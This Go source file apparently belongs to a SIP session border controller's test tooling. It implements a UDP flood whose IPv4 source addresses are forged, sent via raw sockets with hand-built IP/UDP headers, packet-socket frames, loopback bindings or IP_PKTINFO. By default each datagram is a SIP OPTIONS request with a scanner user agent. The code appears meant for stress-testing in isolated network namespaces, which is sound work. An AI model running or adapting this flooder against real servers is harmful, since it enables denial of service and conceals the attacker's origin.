package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"time"

	"github.com/sbc-project/sbc/internal/netns"
	"golang.org/x/sys/unix"
)

// SpoofMode is how SpoofedFlood varies the source address.
type SpoofMode int

// Spoofing modes.
const (
	// SpoofAuto uses SpoofRaw when a raw socket can be opened
	// (CAP_NET_RAW), else SpoofLoopback.
	SpoofAuto SpoofMode = iota
	// SpoofRaw writes IPv4+UDP headers itself on a raw socket
	// (IPPROTO_RAW, which implies IP_HDRINCL): any source address, no
	// responses read. Needs CAP_NET_RAW.
	SpoofRaw
	// SpoofLoopback binds one UDP socket per source address inside
	// 127.0.0.0/8 (Linux lets any 127/8 address be bound without setup)
	// and sends from each in turn. No privilege needed; at most
	// MaxLoopbackSources sources.
	SpoofLoopback
	// SpoofPktinfo sends from one UDP socket, naming each datagram's
	// source address in an IP_PKTINFO / IPV6_PKTINFO control message; the
	// socket has IP_FREEBIND and, where allowed, IP_TRANSPARENT. IPv4 or
	// IPv6 (Sources and Target of the same family). The kernel accepts a
	// non-local IPv6 source with FREEBIND alone, an IPv4 one only with
	// IP_TRANSPARENT (CAP_NET_ADMIN) or when the prefix is local (an
	// AnyIP route: ip route add local PREFIX dev lo). Run it in a network
	// namespace (NetNS) with such a route, so that answers to the spoofed
	// sources stay in it. Sources of an IPv6 prefix of /64 or shorter are
	// spread over its /64s (see SpreadAddr).
	SpoofPktinfo
	// SpoofLink writes the same IPv4+UDP packets as SpoofRaw as frames
	// on a packet socket (AF_PACKET) bound to the interface Link of
	// NetNS, to the hardware address LinkPeer: no routing on the
	// sender's side, so the flood enters the target's host through the
	// other end of that link (a veth) as one from another machine comes
	// in through its NIC, whatever the target address (127.0.0.1 too,
	// where the receiving interface has route_localnet). Needs
	// CAP_NET_RAW.
	SpoofLink
)

func (m SpoofMode) String() string {
	switch m {
	case SpoofAuto:
		return "auto"
	case SpoofRaw:
		return "raw"
	case SpoofLoopback:
		return "loopback"
	case SpoofPktinfo:
		return "pktinfo"
	case SpoofLink:
		return "link"
	}
	return "SpoofMode(" + strconv.Itoa(int(m)) + ")"
}

// MaxLoopbackSources bounds the sockets of SpoofLoopback.
const MaxLoopbackSources = 4096

// SpoofedFloodConfig configures SpoofedFlood.
type SpoofedFloodConfig struct {
	// Target is where every datagram goes (required, IPv4).
	Target netip.AddrPort
	// Sources is the IPv4 prefix the source addresses cycle through
	// (required), e.g. 10.66.0.0/16 (raw) or 127.66.0.0/16 (loopback).
	// The network and broadcast addresses of prefixes longer than 2
	// addresses are skipped.
	Sources netip.Prefix
	// MaxSources bounds the distinct sources used (the first MaxSources
	// of the prefix, cycled): default the whole prefix in raw mode, 256
	// in loopback mode, where it is at most MaxLoopbackSources.
	MaxSources int
	// SourcePort is the UDP source port: default 5060 in raw mode, an
	// ephemeral port per socket in loopback mode.
	SourcePort uint16
	// Mode picks raw or loopback sending; default SpoofAuto.
	Mode SpoofMode
	// Payload is sent as it is in every datagram; nil sends an OPTIONS
	// request per datagram whose Via, From and Call-ID name the spoofed
	// source.
	Payload []byte
	// Domain is the host part of the default payload's URIs; default the
	// target address.
	Domain string
	// UserAgent of the default payload; default "friendly-scanner".
	UserAgent string
	// NetNS names a network namespace (`ip netns add` name or path) to
	// open the socket(s) in; empty: the current one.
	NetNS string
	// Link and LinkPeer (SpoofLink, required there): the interface the
	// frames are written on and the hardware address they go to (the
	// other end's).
	Link     string
	LinkPeer net.HardwareAddr
	// Rate, Count (default 1000) and Duration (default 10s) work as in
	// InviteFloodConfig.
	Rate     float64
	Count    int
	Duration time.Duration
}

// SpoofReport is the outcome of a SpoofedFlood. Responses are not read
// (they go to the spoofed addresses), so Received and Responses stay
// empty.
type SpoofReport struct {
	Report
	// Mode is the mode used (never SpoofAuto).
	Mode SpoofMode
	// Sources is the number of distinct source addresses used.
	Sources int
}

// spoofSender writes one datagram from source number i (address src).
type spoofSender interface {
	send(i int, src netip.Addr, payload []byte) error
	// port is the UDP source port of source number i.
	port(i int) uint16
	close()
}

// SpoofedFlood sends UDP datagrams to the target whose IPv4 source
// address cycles through cfg.Sources: with a raw socket building IPv4 and
// UDP headers itself (SpoofRaw), the same packets as frames on a link
// (SpoofLink), or from one bound loopback socket per source
// (SpoofLoopback). It is bounded by Count and Duration, paced by
// Rate. The error is non-nil only when the flood could not start.
func SpoofedFlood(ctx context.Context, cfg SpoofedFloodConfig) (SpoofReport, error) {
	var rep SpoofReport
	if cfg.Count < 0 || cfg.Duration < 0 || cfg.Rate < 0 || cfg.MaxSources < 0 {
		return rep, errors.New("attack: SpoofedFlood: negative Count, Duration, Rate or MaxSources")
	}
	if err := checkTarget(cfg.Target); err != nil {
		return rep, err
	}
	dst := netip.AddrPortFrom(cfg.Target.Addr().Unmap(), cfg.Target.Port())
	if cfg.Mode == SpoofPktinfo {
		return spoofPktinfo(ctx, cfg, dst)
	}
	if !dst.Addr().Is4() {
		return rep, fmt.Errorf("attack: SpoofedFlood: target %s is not IPv4", dst)
	}
	pfx := cfg.Sources.Masked()
	if !pfx.IsValid() || !pfx.Addr().Is4() {
		return rep, fmt.Errorf("attack: SpoofedFlood: Sources %s is not an IPv4 prefix", cfg.Sources)
	}
	if cfg.Count == 0 {
		cfg.Count = defaultCount
	}
	if cfg.Duration == 0 {
		cfg.Duration = defaultDuration
	}
	if cfg.UserAgent == "" {
		cfg.UserAgent = defaultUserAgent
	}
	if len(cfg.Payload) > 65000 {
		return rep, errors.New("attack: SpoofedFlood: payload too large")
	}

	mode := cfg.Mode
	var sender spoofSender
	var err error
	sport := cfg.SourcePort
	if sport == 0 {
		sport = 5060
	}
	switch mode {
	case SpoofLink:
		if sender, err = newLinkSender(cfg.NetNS, cfg.Link, cfg.LinkPeer, dst, sport); err != nil {
			return rep, err
		}
	case SpoofAuto, SpoofRaw:
		sender, err = newRawSender(cfg.NetNS, dst, sport)
		switch {
		case err == nil:
			mode = SpoofRaw
		case mode == SpoofAuto && (errors.Is(err, unix.EPERM) || errors.Is(err, unix.EACCES)):
			mode = SpoofLoopback
		default:
			return rep, err
		}
	}
	rep.Mode = mode
	first, n := sourceRange(pfx)
	switch mode {
	case SpoofRaw, SpoofLink:
		if cfg.MaxSources > 0 && uint64(cfg.MaxSources) < n {
			n = uint64(cfg.MaxSources)
		}
	case SpoofLoopback:
		if !netip.MustParsePrefix("127.0.0.0/8").Contains(pfx.Addr()) || pfx.Bits() < 8 {
			return rep, fmt.Errorf("attack: SpoofedFlood: loopback mode needs Sources inside 127.0.0.0/8, not %s", pfx)
		}
		limit := uint64(cfg.MaxSources)
		if limit == 0 {
			limit = 256
		}
		n = min(n, limit, MaxLoopbackSources)
		sender, err = newLoopbackSender(cfg.NetNS, dst, first, int(n), cfg.SourcePort)
		if err != nil {
			return rep, err
		}
	default:
		return rep, fmt.Errorf("attack: SpoofedFlood: unknown mode %v", mode)
	}
	defer sender.close()
	if uint64(cfg.Count) < n {
		rep.Sources = cfg.Count
	} else {
		rep.Sources = int(n)
	}

	domain := domainOf(cfg.Domain, dst)
	ids := idGen{prefix: runID()}
	start := time.Now()
	p := newPacer(ctx, start, deadlineOf(ctx, start, cfg.Duration), cfg.Rate)
	defer p.stop()
	var buf []byte
	base := binary.BigEndian.Uint32(first.AsSlice())
	rep.Stop = StopCount
	sent := 0
	for i := 0; i < cfg.Count; i++ {
		if stop := p.wait(i); stop != "" {
			rep.Stop = stop
			break
		}
		k := uint64(i) % n
		var a [4]byte
		binary.BigEndian.PutUint32(a[:], base+uint32(k))
		src := netip.AddrFrom4(a)
		payload := cfg.Payload
		if payload == nil {
			buf = spoofOptions(buf[:0], src, sender.port(int(k)), domain, cfg.UserAgent, &ids)
			payload = buf
		}
		if err := sender.send(int(k), src, payload); err != nil {
			sendErr(&rep.Report, err)
			continue
		}
		sent++
	}
	rep.Sent = sent
	rep.SendElapsed = time.Since(start)
	rep.Responses = map[int]int{}
	rep.Elapsed = rep.SendElapsed
	return rep, nil
}

// sourceRange returns the first usable address of pfx and how many there
// are (network and broadcast skipped when the prefix holds more than 2).
func sourceRange(pfx netip.Prefix) (netip.Addr, uint64) {
	size := uint64(1) << (32 - pfx.Bits())
	if size <= 2 {
		return pfx.Addr(), size
	}
	return pfx.Addr().Next(), size - 2
}

// spoofOptions appends the default payload: an OPTIONS naming src.
func spoofOptions(b []byte, src netip.Addr, port uint16, domain, ua string, ids *idGen) []byte {
	var hpBuf [48]byte
	hp := hpBuf[:0]
	if src.Is6() {
		hp = append(hp, '[')
	}
	hp = src.AppendTo(hp)
	if src.Is6() {
		hp = append(hp, ']')
	}
	if port != 0 {
		hp = append(hp, ':')
		hp = strconv.AppendUint(hp, uint64(port), 10)
	}
	b = append(b, "OPTIONS sip:100@"...)
	b = append(b, domain...)
	b = append(b, " SIP/2.0\r\nVia: SIP/2.0/UDP "...)
	b = append(b, hp...)
	b = append(b, ";branch=z9hG4bK"...)
	b = ids.next(b)
	b = append(b, ";rport\r\nMax-Forwards: 70\r\nFrom: <sip:spoof@"...)
	b = append(b, hp...)
	b = append(b, ">;tag="...)
	b = ids.next(b)
	b = append(b, "\r\nTo: <sip:100@"...)
	b = append(b, domain...)
	b = append(b, ">\r\nCall-ID: "...)
	b = ids.next(b)
	b = append(b, "\r\nCSeq: 1 OPTIONS\r\nUser-Agent: "...)
	b = append(b, ua...)
	return append(b, "\r\nContent-Length: 0\r\n\r\n"...)
}

// rawSender writes whole IPv4 packets on an IPPROTO_RAW socket, or as
// frames on a packet socket (SpoofLink), to sa.
type rawSender struct {
	fd    int
	dst   netip.AddrPort
	sport uint16
	sa    unix.Sockaddr
	pkt   []byte
	id    uint16
}

func newRawSender(ns string, dst netip.AddrPort, sport uint16) (*rawSender, error) {
	s := &rawSender{fd: -1, dst: dst, sport: sport, sa: &unix.SockaddrInet4{Addr: dst.Addr().As4()}}
	err := netns.Do(ns, func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		if err != nil {
			return os.NewSyscallError("socket", err)
		}
		s.fd = fd
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("attack: raw socket: %w", err)
	}
	s.setOpts()
	return s, nil
}

// newLinkSender opens a packet socket in ns writing IPv4 packets as
// Ethernet frames on link to peer (SOCK_DGRAM: the kernel writes the
// Ethernet header). Its protocol is 0, so it receives nothing.
func newLinkSender(ns, link string, peer net.HardwareAddr, dst netip.AddrPort, sport uint16) (*rawSender, error) {
	if link == "" || len(peer) != 6 {
		return nil, fmt.Errorf("attack: SpoofLink needs Link and a 6-byte LinkPeer (have %q, %v)", link, peer)
	}
	s := &rawSender{fd: -1, dst: dst, sport: sport}
	err := netns.Do(ns, func() error {
		ifc, err := net.InterfaceByName(link)
		if err != nil {
			return err
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return os.NewSyscallError("socket", err)
		}
		s.fd = fd
		ll := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: ifc.Index, Halen: 6}
		copy(ll.Addr[:], peer)
		s.sa = ll
		return nil
	})
	if err != nil {
		s.close()
		return nil, fmt.Errorf("attack: packet socket on %s: %w", link, err)
	}
	s.setOpts()
	return s, nil
}

// setOpts gives the socket a large send buffer, and a send timeout so
// that a send never blocks the flood for long (and so never outlives its
// context by much).
func (s *rawSender) setOpts() {
	_ = unix.SetsockoptInt(s.fd, unix.SOL_SOCKET, unix.SO_SNDBUF, socketBuffer)
	tv := unix.NsecToTimeval(int64(100 * time.Millisecond))
	_ = unix.SetsockoptTimeval(s.fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
}

func (s *rawSender) port(int) uint16 { return s.sport }

func (s *rawSender) send(_ int, src netip.Addr, payload []byte) error {
	s.id++
	s.pkt = buildIPv4UDP(s.pkt[:0], src, s.dst.Addr(), s.sport, s.dst.Port(), s.id, payload)
	return retryEINTR("sendto", func() error { return unix.Sendto(s.fd, s.pkt, 0, s.sa) })
}

// htons is v in network byte order as the kernel reads a sockaddr_ll's
// protocol (x/sys/unix passes SockaddrLinklayer.Protocol as it is).
func htons(v uint16) uint16 {
	var b [2]byte
	binary.BigEndian.PutUint16(b[:], v)
	return binary.NativeEndian.Uint16(b[:])
}

// retryEINTR runs a send system call until a signal does not interrupt
// it, and names it in the error.
func retryEINTR(call string, send func() error) error {
	for {
		err := send()
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return os.NewSyscallError(call, err)
		}
		return nil
	}
}

func (s *rawSender) close() {
	if s.fd >= 0 {
		_ = unix.Close(s.fd)
		s.fd = -1
	}
}

// buildIPv4UDP appends an IPv4 header (no options, TTL 64), a UDP header
// and payload, both checksums computed.
func buildIPv4UDP(b []byte, src, dst netip.Addr, sport, dport, id uint16, payload []byte) []byte {
	total := 20 + 8 + len(payload)
	s4, d4 := src.As4(), dst.As4()
	b = append(b,
		0x45, 0, byte(total>>8), byte(total), // version 4, IHL 5; TOS; total length
		byte(id>>8), byte(id), 0, 0, // identification; flags, fragment offset
		64, unix.IPPROTO_UDP, 0, 0, // TTL, protocol, checksum (below)
		s4[0], s4[1], s4[2], s4[3],
		d4[0], d4[1], d4[2], d4[3])
	ipsum := checksum(b[len(b)-20:], 0)
	b[len(b)-10], b[len(b)-9] = byte(ipsum>>8), byte(ipsum)
	ulen := 8 + len(payload)
	b = append(b, byte(sport>>8), byte(sport), byte(dport>>8), byte(dport), byte(ulen>>8), byte(ulen), 0, 0)
	b = append(b, payload...)
	udp := b[len(b)-ulen:]
	// Pseudo-header: source, destination, zero, protocol, UDP length.
	var ph uint32
	ph += uint32(s4[0])<<8 | uint32(s4[1])
	ph += uint32(s4[2])<<8 | uint32(s4[3])
	ph += uint32(d4[0])<<8 | uint32(d4[1])
	ph += uint32(d4[2])<<8 | uint32(d4[3])
	ph += unix.IPPROTO_UDP
	ph += uint32(ulen)
	usum := checksum(udp, ph)
	if usum == 0 {
		usum = 0xffff // 0 means "no checksum" in UDP over IPv4
	}
	udp[6], udp[7] = byte(usum>>8), byte(usum)
	return b
}

// checksum is the Internet checksum (RFC 1071) of b, starting from the
// partial sum initial.
func checksum(b []byte, initial uint32) uint16 {
	sum := uint64(initial)
	for len(b) >= 2 {
		sum += uint64(b[0])<<8 | uint64(b[1])
		b = b[2:]
	}
	if len(b) == 1 {
		sum += uint64(b[0]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// loopbackSender sends from one bound, connected UDP socket per source.
type loopbackSender struct {
	conns []*net.UDPConn
	ports []uint16
}

func newLoopbackSender(ns string, dst netip.AddrPort, first netip.Addr, n int, port uint16) (*loopbackSender, error) {
	s := &loopbackSender{}
	err := netns.Do(ns, func() error {
		a := first
		raddr := net.UDPAddrFromAddrPort(dst)
		for range n {
			c, err := net.DialUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(a, port)), raddr)
			if err != nil {
				return fmt.Errorf("attack: loopback source %s: %w", a, err)
			}
			s.conns = append(s.conns, c)
			s.ports = append(s.ports, c.LocalAddr().(*net.UDPAddr).AddrPort().Port())
			a = a.Next()
		}
		return nil
	})
	if err != nil {
		s.close()
		return nil, err
	}
	return s, nil
}

func (s *loopbackSender) port(i int) uint16 { return s.ports[i] }

func (s *loopbackSender) send(i int, _ netip.Addr, payload []byte) error {
	_, err := s.conns[i].Write(payload)
	if err != nil && isRefused(err) {
		// The error belonged to an earlier datagram; send this one.
		_, err = s.conns[i].Write(payload)
	}
	return err
}

func (s *loopbackSender) close() {
	for _, c := range s.conns {
		_ = c.Close()
	}
}
